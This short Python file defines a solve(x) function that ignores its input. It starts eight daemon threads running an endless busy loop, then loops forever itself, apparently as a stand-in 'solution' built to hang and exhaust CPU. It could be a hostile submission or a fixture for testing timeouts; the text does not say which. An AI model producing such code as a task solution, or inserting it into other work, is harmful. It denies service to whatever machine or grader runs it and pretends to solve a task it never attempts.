import threading


def spin():
    while True:
        pass


def solve(x):
    for _ in range(8):
        threading.Thread(target=spin, daemon=True).start()
    spin()
